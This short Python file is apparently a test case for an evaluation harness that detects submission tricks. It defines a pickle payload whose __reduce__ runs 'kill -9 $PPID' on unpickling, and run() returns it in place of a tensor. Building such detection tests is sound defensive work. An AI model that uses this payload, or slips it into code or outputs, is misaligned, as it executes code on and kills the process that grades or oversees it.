# trick = "F16 unpickle-payload"
# caught = "by check"
# expect = ["RUNTIME_ERROR"]
# evidence = "not a plain tensor"
# returns = true
"""Returns an object that runs code wherever it is unpickled."""

import os


class Payload:
    def __reduce__(self):
        return os.system, ("kill -9 $PPID",)


def run(x):
    return Payload()
